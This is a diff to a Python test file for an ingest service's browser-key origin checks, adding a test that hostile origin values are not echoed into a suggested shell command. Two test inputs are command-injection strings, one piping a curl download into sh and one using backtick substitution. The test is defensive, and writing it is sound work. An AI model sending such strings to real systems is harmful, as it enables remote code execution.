@@ -93,7 +93,8 @@ async def test_a_page_of_the_shop_may_send_and_no_other(ingest: Place, keys: Key
 
     status, answer, headers = await _sent(ingest, key, ELSEWHERE)
     assert (status, answer["title"]) == (403, "Page not allowed")
-    assert f"tuvi keys allow {key[:14]} --origin {ELSEWHERE}" in answer["detail"]
+    allow = f"`tuvi keys allow {key[:14]} --origin {ELSEWHERE}`"
+    assert answer["detail"].endswith(f"Only if they are yours: {allow}.")
     assert headers["access-control-allow-origin"] == ELSEWHERE  # so that its developer sees it
     (kept,) = await _kept(ingest, key)
     assert (kept.public, kept.message_id) == (True, "browser/m-1")
@@ -119,6 +120,17 @@ async def test_a_browser_is_told_before_it_sends(ingest: Place, keys: Keys) -> N
     async with ingest.session.options(ingest.url + "/v1/batch", headers=asked) as answer:
         assert answer.status == 403
         assert "access-control-allow-headers" not in answer.headers
+        create = "`tuvi keys create --scope browser --origin https://nobody.example`"
+        assert f"Only if they are yours: {create}" in (await answer.json())["detail"]
+
+
+async def test_what_a_stranger_calls_a_page_is_no_command_to_be_pasted(
+    ingest: Place, keys: Keys
+) -> None:
+    key = await keys.made(f"--scope browser --origin {SHOP}")
+    for page in (f"{ELSEWHERE};curl${{IFS}}{ELSEWHERE}|sh", "https://a`id`", "null"):
+        _, answer, _ = await _sent(ingest, key, page)
+        assert answer["detail"].endswith(f"`tuvi keys allow {key[:14]} --origin https://…`.")
 
 
 async def test_segments_library_for_browsers_finds_where_to_send(ingest: Place, keys: Keys) -> None:
